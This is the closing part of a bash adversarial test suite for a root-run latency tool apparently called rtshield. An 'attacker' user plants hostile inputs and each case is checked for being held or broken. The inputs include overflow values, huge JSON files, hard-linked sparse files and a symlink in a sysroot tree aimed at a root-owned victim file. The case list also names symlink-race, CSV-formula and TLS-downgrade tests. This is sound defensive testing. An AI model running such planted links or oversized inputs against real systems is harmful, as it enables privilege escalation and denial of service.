    else broken "$CUR" "run --check: 1025 timers exit $t, 257 programs exit $RC"; fi
}
case_r5b_f15a() { # cyclictest cmdline -i 2^64-1: overflow
    r5b_ct
    "$PY" -c "import json;d=json.load(open('$R5B_CT'));d['cmdline:']='cyclictest -t 3 -i 18446744073709551615 -d 18446744073709551615';json.dump(d,open('$ATT/r5b-cjp.json','w'))"
    rr "$CUR" 60 report "$FIX/idle" "$ATT/r5b-cjp.json" -o "$WORK/o-$CUR"
    r5b_nopanic "report <cyclictest -i 18446744073709551615>"
}
case_r5b_f15b() { # fluctuation log [i64::MAX] then [i64::MIN]
    printf '[9223372036854775807] Min.= 1, Moy.= 1, Max.= 3, Max.Max.= 3\n[-9223372036854775808] Min.= 1, Moy.= 1, Max.= 5, Max.Max.= 5\n' >"$ATT/r5b-fl5.txt"
    mkdir -m 700 "$WORK/r5b-st15"
    rr "$CUR" 60 runs import --store "$WORK/r5b-st15/runs.db" "$ATT/r5b-fl5.txt"
    r5b_nopanic "runs import <fluctuation log [i64::MAX] [i64::MIN]>"
}
case_r5b_f19a() { # cyclictest JSON of 9000 threads
    r5b_ct
    "$PY" - "$R5B_CT" "$ATT/r5b-cj9k.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1])); t = d["thread"]["0"]; t["histogram"] = {str(i): 1 for i in range(300)}
d["thread"] = {str(i): t for i in range(9000)}; d["num_threads"] = 9000
json.dump(d, open(sys.argv[2], "w"))
EOF
    mkdir -m 700 "$WORK/r5b-st19"
    limited "$CUR-imp" runs import --store "$WORK/r5b-st19/runs.db" "$ATT/r5b-cj9k.json"; local imp=$RC
    limited "$CUR" report "$ATT/r5b-cj9k.json" -o "$WORK/o-$CUR"
    if [ $imp = 2 ] && [ $RC = 2 ] && [ $RSS -lt 300 ]; then held "$CUR" "report and runs import refuse 9000 threads: exit 2 in $ELAPSED s, max RSS $RSS MB ($(first_err "$LOG/$CUR.err" 100))"
    else broken "$CUR" "9000-thread cyclictest JSON: import exit $imp, report exit $RC in $ELAPSED s, max RSS $RSS MB"; fi
}
case_r5b_f19b() { # cyclictest -h text of 9000 columns
    "$PY" -c "
n=9000; f=open('$ATT/r5b-hh9k.txt','w'); f.write('# Histogram\n')
[f.write('%06d '%b+' '.join(['1']*n)+'\n') for b in range(5)]
for k,v in (('Total','5'),('Min Latencies','0'),('Avg Latencies','2'),('Max Latencies','4'),('Histogram Overflows','0')): f.write('# %s: '%k+' '.join([v]*n)+'\n')"
    mkdir -m 700 "$WORK/r5b-st19b"
    limited "$CUR" runs import --store "$WORK/r5b-st19b/runs.db" "$ATT/r5b-hh9k.txt"
    r5b_nopanic "runs import <cyclictest -h text of 9000 columns>"
}
case_r5b_f16() { # simulate --trace of a 90-byte scenario
    printf '{\n  name = a\n  sched = other\n  loop = 300000000\n  sloop = 1\n  sleep = 1us\n  count = 8\n}\n' >"$ATT/r5b-pp.scn"
    limited "$CUR" simulate "$ATT/r5b-pp.scn" --trace "$WORK/r5b-pp.csv"
    if [ $RC = 2 ] && [ $RSS -lt 1024 ]; then held "$CUR" "simulate --trace refused at its event bound: exit 2 in $ELAPSED s, max RSS $RSS MB"
    else broken "$CUR" "simulate --trace: exit $RC in $ELAPSED s, max RSS $RSS MB"; fi
}
case_r5b_f20() { # a colleague's result directories hard-linked to one big (sparse) timeline
    as_user mkdir "$ATT/r5b-tl1"
    as_user cp "$FIX/idle/results.json" "$ATT/r5b-tl1/results.json"
    as_user "$PY" -c "
f=open('$ATT/r5b-tl1/timeline.csv','w'); f.write('elapsed_s,ival_max_ns\n'); f.truncate(200<<20)"
    local i args=("$ATT/r5b-tl1")
    for i in 2 3 4 5 6 7 8; do
        as_user mkdir "$ATT/r5b-tl$i"; as_user cp "$ATT/r5b-tl1/results.json" "$ATT/r5b-tl$i/"
        as_user ln "$ATT/r5b-tl1/timeline.csv" "$ATT/r5b-tl$i/timeline.csv"; args+=("$ATT/r5b-tl$i")
    done
    limited "$CUR" report "${args[@]}" -o "$WORK/o-$CUR"
    if [ $RC = 2 ] && [ $RSS -lt 300 ]; then held "$CUR" "report <8 inputs linked to one 200 MB timeline>: exit 2 in $ELAPSED s, max RSS $RSS MB"
    else broken "$CUR" "report <8 inputs linked to one 200 MB timeline>: exit $RC in $ELAPSED s, max RSS $RSS MB"; fi
}
case_r5b_f05() { # each stop signal to stat --record
    local sig bad=""
    for sig in INT QUIT TERM HUP; do
        rm -f "$WORK/r5b-st3.json"
        bg_rts "$CUR-$sig" stat --record "$WORK/r5b-st3.json" --duration 60s --interval 200ms
        sleep 2; kill -"$sig" "$BGPID" 2>/dev/null; wait_rts
        [ -s "$WORK/r5b-st3.json" ] && grep -q "stopped by SIG$sig" "$LOG/$CUR-$sig.err" || bad="$bad SIG$sig:exit-$RC"
    done
    if [ -z "$bad" ]; then held "$CUR" "SIGINT, SIGQUIT, SIGTERM, SIGHUP: the recording written, the signal named"
    else broken "$CUR" "stat --record lost its recording on:$bad"; fi
}
case_r5b_f14() { # a refused output directory is refused before the run, not after it
    mkdir "$WORK/r5b-ww"; chmod 777 "$WORK/r5b-ww"
    printf '{\n  name = a\n  sched = other\n  loop = 300000000\n  sloop = 1\n  sleep = 1us\n  count = 1\n}\n' >"$WORK/r5b-s1.scn"
    local t0=$SECONDS a b c
    rr "$CUR-stat" 30 stat --record "$WORK/r5b-ww/r.json" --duration 1h; a=$RC
    rr "$CUR-scn" 30 scenario "$WORK/r5b-s1.scn" --timeout 1h --json "$WORK/r5b-ww/s.json"; b=$RC
    rr "$CUR" 30 simulate "$WORK/r5b-s1.scn" --duration 1h --max-events 100000000000 --json "$WORK/r5b-ww/x.json"; c=$RC
    if [ "$a$b$c" = 222 ]; then held "$CUR" "stat --record, scenario --json, simulate --json into a 777 dir: refused before running ($((SECONDS - t0)) s for the three)"
    else broken "$CUR" "exit stat $a, scenario $b, simulate $c (124: still running at the 30 s limit)"; fi
}
case_r5b_f18() { # a link inside the --sysroot tree, planted by the user who owns part of it
    local T=$WORK/r5b-T C
    "$PY" "$LIB/faketree.py" "$T" v1
    C=$T/sys/fs/cgroup/cpuset
    echo precious >"$ROOTSIDE/r5b-victim"
    chown -R "$AUID:$AGID" "$C"
    as_user rm -f "$C/cpuset.sched_load_balance"
    as_user ln -s "$ROOTSIDE/r5b-victim" "$C/cpuset.sched_load_balance"
    rr "$CUR" 60 --sysroot "$T" partition create 1
    "$BIN" --sysroot "$T" partition undo >/dev/null 2>&1
    if is_precious "$ROOTSIDE/r5b-victim"; then held "$CUR" "the victim behind the tree's link is intact (partition create exit $RC: the linked knob is neither read nor written)"
    else broken "$CUR" "partition create wrote through cpuset.sched_load_balance -> victim (exit $RC)"; fi
}
case_r5b_f08() { # two traced runs in two PID namespaces
    have_tracefs && command -v unshare >/dev/null || { held "$CUR" "no tracefs or no unshare here: nothing to share"; return; }
    lock_live || { no_lock; return; }
    local m="measure --period 1ms --policy other -q --no-memlock --no-dma-latency --no-store --trace-on 500us"
    mkdir "$WORK/r5b-tfs"; mount -t tracefs tracefs "$WORK/r5b-tfs"; MOUNTS+=("$WORK/r5b-tfs")
    local before; before=$(ls "$WORK/r5b-tfs/instances" 2>/dev/null | tr '\n' ' ')
    umount "$WORK/r5b-tfs"
    unshare --pid --fork --mount-proc sh -c "$BIN $m --cpus $MCPU --duration 4s --out $WORK/r5b-ns1 >$LOG/$CUR-ns1.out 2>&1" &
    local p1=$!; BG_PIDS+=($p1)
    sleep 1.5
    unshare --pid --fork --mount-proc "$BIN" $m --cpus "$LCPU" --duration 1s --out "$WORK/r5b-ns2" >"$LOG/$CUR-ns2.out" 2>&1
    wait $p1
    mount -t tracefs tracefs "$WORK/r5b-tfs"
    local i left=""
    for i in $(ls "$WORK/r5b-tfs/instances" 2>/dev/null | grep '^rtshield-[0-9]'); do
        case " $before " in *" $i "*) continue ;; esac
        left="$left $i"
        # Left by the two runs this case started (both are gone): stop and remove it.
        echo 0 >"$WORK/r5b-tfs/instances/$i/tracing_on" 2>/dev/null; rmdir "$WORK/r5b-tfs/instances/$i" 2>/dev/null
    done
    umount "$WORK/r5b-tfs"
    unlock_live
    if [ -z "$left" ] && ! grep -qi 'no such file\|cannot' "$LOG/$CUR-ns1.out" && [ -s "$WORK/r5b-ns1/results.json" ]; then
        held "$CUR" "both runs traced, neither touched the other's instance or mount; nothing left in tracefs"
    else broken "$CUR" "left in tracefs: ${left:-nothing}; first run: $(grep -i 'no such file\|cannot' "$LOG/$CUR-ns1.out" | clean 160)"; fi
}
case_r5b_f11() { # the io load's directory after SIGKILL
    mkdir -m 700 "$WORK/r5b-tmp"
    cfg "$WORK/r5b-io.cfg" "30 s" "$(printf 'program[1]\n{\n  load io\n  cpu_affinity %s\n}\n' "$MCPU")"
    export TMPDIR=$WORK/r5b-tmp
    bg_rts "$CUR-killed" run -q "$WORK/r5b-io.cfg" --out "$WORK/o-$CUR-killed"
    wait_for 20 bash -c "ls -d $WORK/r5b-tmp/rtshield-io-* >/dev/null 2>&1"; sleep 1
    local d; d=$(ls -d "$WORK"/r5b-tmp/rtshield-io-* 2>/dev/null | head -1)
    kill -KILL "$BGPID"; wait_rts; sleep 1
    rr "$CUR" 60 "${MEASURE[@]}" --out "$WORK/o-$CUR" --no-store --load io --load-cpus "$MCPU"
    unset TMPDIR
    if [ -n "$d" ] && [ ! -e "$d" ]; then held "$CUR" "the next io load removed $(basename "$d") left by the SIGKILLed run"
    else broken "$CUR" "${d:-no io dir seen}: still there after the next io load (exit $RC)"; fi
}

# ===========================================================================
# The cases, in order
# ===========================================================================
if [ -z "${ADV_LIST:-}" ]; then
    echo "rtshield adversarial replay: $BIN as root, attacker $ADV_USER (uid $AUID)"
    echo "kernel $(uname -r); fs.protected_symlinks=$(cat /proc/sys/fs/protected_symlinks) (not changed); temp dir $WORK"
    echo
fi
run_case a1-measure-out-planted-links      case_a1
run_case a2-run-out-planted-links          case_a2
run_case a3-default-out-predicted          case_a3
run_case b1-measure-out-world-writable     case_b1
run_case b2-report-o-world-writable        case_b2
run_case c1-undo-attacker-state            case_c1
run_case c2-undo-dotdot-state              case_c2
run_case c3-undo-state-name-collision      case_c3
run_case d1-report-o-swap-race             case_d1
run_case d2-report-o-link                  case_d2
run_case e1-full-disk-fallback             case_e
run_case f1-report-dev-zero                case_f1
run_case f2-report-fifo                    case_f2
run_case f3-report-200mb                   case_f3

run_case n01-gnuplot-backquote-label       case_n01
run_case n02a-measure-out-trailing-slash   case_n02a
run_case n02b-measure-out-trailing-dot     case_n02b
run_case n02c-report-o-trailing-slash      case_n02c
run_case n02d-report-o-trailing-dot        case_n02d
run_case n03a-measure-out-middle-link      case_n03a
run_case n03b-export-o-dotdot-link         case_n03b
run_case n04-postgres-password-in-files    case_n04
run_case n05a-store-attacker-db-sticky     case_n05a
run_case n05b-store-forged-wal             case_n05b
run_case n05c-store-home-race-sudo-E       case_n05c
run_case n06-fallback-squatted             case_n06
run_case n07a-tmpdir-io-dir-swapped        case_n07a
run_case n07b-load-size-unbounded          case_n07b
run_case n08a-partition-parent-empty       case_n08a
run_case n08b-partition-parent-slash       case_n08b
run_case n08c-partition-move-pid1          case_n08c
run_case n08d-partition-move-kthread       case_n08d
run_case n09-rtshield-load-exe             case_n09
run_case n10a-sighup-measure               case_n10a
run_case n10b-sighup-measure-trace         case_n10b
run_case n10c-sigkill-trace-next-run-cleans case_n10c
run_case n10d-sigkill-trace-audit-reports  case_n10d
run_case n11a-term-escape-config-value     case_n11a
run_case n11b-term-escape-path             case_n11b
run_case n11c-term-5mb-token               case_n11c
run_case n11d-md-newline-label             case_n11d
run_case n11e-csv-formula-summary          case_n11e
run_case n11f-csv-formula-results          case_n11f
run_case n12a-simulate-echoes-root-file    case_n12a
run_case n12b-scenario-echoes-root-file    case_n12b
run_case n13-report-20000-threads          case_n13

for o in $DIR_OPTS; do for k in $DIR_KINDS; do
    run_case "p-${o//_/-}-$k" path_case dir "$o" "$k"
done; done
for o in $FILE_OPTS; do for k in $FILE_KINDS; do
    run_case "p-${o//_/-}-$k" path_case file "$o" "$k"
done; done

run_case r-measure-out                     race_case dir measure_out "$RACE_TRIES"
run_case r-report-o                        race_case dir report_o 200
run_case r-export-o                        race_case file export_o 200
run_case r-runs-export-o                   race_case file runs_export_o 200
run_case r-stat-record                     race_case file stat_record "$RACE_TRIES"
run_case r-store                           race_case file store 200

run_case s-journal-forged                  case_s_journal
run_case s-shm-attacker-owned              case_s_shm
run_case s-wal-symlink                     case_s_wal_link
run_case s-wal-hardlink                    case_s_wal_hardlink
run_case s-xdg-data-home-sudo-E            case_s_xdg
run_case s-tls-require                     case_s_tls_require
run_case s-tls-verify-full                 case_s_tls_verify_full
run_case s-tls-verify-full-wrong-ca        case_s_tls_wrong_ca
run_case s-tls-require-downgrade           case_s_tls_downgrade
run_case s-tls-default-prefer              case_s_tls_default

run_case t-io-load-file-links              case_t_io_links
run_case t-tmpdir-of-another-user          case_t_tmpdir_ignored
run_case t-runs-report-tmp-swapped         case_t_runs_report

run_case v-store-env-sudo-E                case_v_store_env
run_case v-sysroot-env-sudo-E              case_v_sysroot_env
run_case v-fake-kernel-env                 case_v_fake_kernel
run_case v-variables-documented            case_v_documented

run_case g-sigquit-measure                 case_g_sigquit_measure
run_case g-sighup-run                      case_g_sighup_run
run_case g-sighup-campaign                 case_g_sighup_campaign
run_case g-sigquit-measure-trace           case_g_sigquit_trace

run_case e-html-report                     case_e_html
run_case e-svg-wellformed                  case_e_svg
run_case e-md-summary-all-formats          case_e_md_file
run_case e-term-report                     case_e_term_report
run_case e-xml-junit                       case_e_junit
run_case e-openmetrics-export              case_e_openmetrics
run_case e-json-kcidb                      case_e_kcidb
run_case e-json-cyclictest                 case_e_cyclictest
run_case e-openmetrics-metrics-file        case_e_metrics_file
run_case e-csv-runs-export                 case_e_csv_runs_export
run_case e-term-runs-list                  case_e_term_runs_list
run_case e-term-runs-show                  case_e_term_runs_show
run_case e-term-stat-thread-name           case_e_term_stat_comm
run_case e-5mb-label                       case_e_5mb_label

run_case x-run-check-echoes-root-file      case_x_run_check
run_case x-campaign-echoes-root-file       case_x_campaign
run_case x-report-echoes-root-file         case_x_report
run_case x-export-echoes-root-file         case_x_export
run_case x-stat-compare-echoes-root-file   case_x_stat_compare
run_case x-runs-import-echoes-root-file    case_x_runs_import

run_case w-export-20000-threads            case_w_export_20k
run_case w-runs-import-20000-threads       case_w_import_20k
run_case w-report-300-curves               case_w_report_300

# round 5 (A, secrets, encoders, processes)
run_case r5a-f02a-url-forms-every-file      case_r5a_f02a
run_case r5a-f02b-run-program-commands      case_r5a_f02b
run_case r5a-f02c-campaign-cmd-load         case_r5a_f02c
run_case r5a-f06-pgpass-of-another-user     case_r5a_f06
run_case r5a-f09a-bidi-html-md-terminal     case_r5a_f09a
run_case r5a-f09b-csv-controls-formulas     case_r5a_f09b
run_case r5a-f21-campaign-daemonised-load   case_r5a_f21

# round 5 (A)
run_case r5a-f01a-run-attacker-config       case_r5a_f01a
run_case r5a-f01b-run-config-mode-666       case_r5a_f01b
run_case r5a-f01c-run-config-in-att-dir     case_r5a_f01c
run_case r5a-f07a-campaign-attacker-file    case_r5a_f07a
run_case r5a-f07b-scenario-attacker-file    case_r5a_f07b
run_case r5a-f04a-report-symlink-root-run   case_r5a_f04a
run_case r5a-f04b-inputs-hardlink-root-run  case_r5a_f04b
run_case r5a-f04c-report-timeline-link      case_r5a_f04c
run_case r5a-f22a-measure-out-new-in-att    case_r5a_f22a
run_case r5a-f22b-report-o-new-in-att       case_r5a_f22b
run_case r5a-f22c-export-o-new-in-att       case_r5a_f22c
run_case r5a-f22d-store-new-in-att          case_r5a_f22d
run_case r5a-f17a-out-reuse-stale-threads   case_r5a_f17a
run_case r5a-f17b-out-reuse-stale-timeline  case_r5a_f17b

# round 5 (B)
run_case r5b-f03-uuid-squatting-import      case_r5b_f03
run_case r5b-f10-store-rows-out-of-range    case_r5b_f10
run_case r5b-f13-campaign-forged-run        case_r5b_f13
run_case r5b-f12-run-timers-and-programs    case_r5b_f12
run_case r5b-f15a-cyclictest-cmdline-overflow case_r5b_f15a
run_case r5b-f15b-fluctuation-stamps-overflow case_r5b_f15b
run_case r5b-f19a-cyclictest-json-9000-threads case_r5b_f19a
run_case r5b-f19b-cyclictest-text-9000-columns case_r5b_f19b
run_case r5b-f16-simulate-trace-memory      case_r5b_f16
run_case r5b-f20-report-linked-timelines    case_r5b_f20
run_case r5b-f05-stat-record-signals        case_r5b_f05
run_case r5b-f14-outputs-refused-before-run case_r5b_f14
run_case r5b-f18-sysroot-inner-link         case_r5b_f18
run_case r5b-f08-trace-two-pid-namespaces   case_r5b_f08
run_case r5b-f11-io-dir-after-sigkill       case_r5b_f11

[ -n "${ADV_LIST:-}" ] && exit 0
echo
echo "$HELD held, $BROKEN BROKEN"
[ $BROKEN = 0 ] || echo "BROKEN: ${BROKEN_NAMES[*]}"
[ $BROKEN = 0 ]
